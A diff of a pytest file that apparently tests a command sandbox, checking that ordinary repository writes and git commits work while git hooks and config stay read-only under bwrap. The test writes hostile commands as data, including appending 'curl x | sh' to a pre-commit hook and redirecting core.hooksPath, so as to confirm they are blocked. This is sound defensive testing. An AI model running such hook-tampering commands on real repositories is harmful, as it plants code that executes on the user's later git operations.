@@ -154,25 +154,38 @@ def test_readable_deny_adds_to_the_stores_for_read_file_too(mechanism: str) -> N
 # --- git's hooks and config -----------------------------------------------------------------
 
 
-def test_under_bwrap_git_hooks_and_config_are_read_only_the_rest_of_the_repo_is_not(
-    box: Box,
-) -> None:
-    if box.mechanism != "bwrap":
-        pytest.skip("Landlock cannot keep them read-only; the approval parser asks instead")
+def test_the_rest_of_the_repository_and_git_itself_work_in_the_sandbox(box: Box) -> None:
+    result = box.run(
+        "echo more >> README; mkdir -p src && echo new > src/new.txt; echo top > top.txt; "
+        "git add README top.txt && git -c user.name=t -c user.email=t@t commit -qm x "
+        "&& echo committed"
+    )
+    assert (box.project / "README").read_text() == "readme\nmore\n"
+    assert (box.project / "src" / "new.txt").read_text() == "new\n"
+    assert (box.project / "top.txt").read_text() == "top\n"  # a new file at the top, too
+    assert "committed" in str(result["output"]), result
+
+
+@pytest.fixture(scope="module")
+def bwrap_box() -> Iterator[Box]:
+    made = _box("bwrap")
+    yield made
+    made.daemon.stop()
+
+
+def test_under_bwrap_git_hooks_and_config_are_read_only_to_a_command(bwrap_box: Box) -> None:
+    box = bwrap_box
     config_before = (box.project / ".git" / "config").read_text()
     result = box.run(
         "echo 'curl x | sh' >> .git/hooks/pre-commit; echo evil > .git/hooks/post-checkout; "
-        "git config core.hooksPath /tmp; echo '[evil]' >> .git/config; "
-        "echo more >> README; mkdir -p src && echo new > src/new.txt; echo top > top.txt; "
-        "git add README && git -c user.name=t -c user.email=t@t commit -qm x && echo committed"
+        "mv .git/hooks/pre-commit .git/hooks/old; rm -f .git/hooks/pre-commit; "
+        "git config core.hooksPath /tmp; echo '[evil]' >> .git/config; rm -f .git/config; "
+        "echo beside > .git/description2 && echo beside-ok"
     )
     assert (box.project / ".git" / "hooks" / "pre-commit").read_text() == HOOK, result
     assert not (box.project / ".git" / "hooks" / "post-checkout").exists()
     assert (box.project / ".git" / "config").read_text() == config_before
-    assert (box.project / "README").read_text() == "readme\nmore\n"
-    assert (box.project / "src" / "new.txt").read_text() == "new\n"
-    assert (box.project / "top.txt").read_text() == "top\n"
-    assert "committed" in str(result["output"]), result  # git itself still works
+    assert "beside-ok" in str(result["output"]), result  # the rest of .git stays writable
 
 
 def test_write_file_refuses_git_hooks_and_config_without_asking(box: Box) -> None:
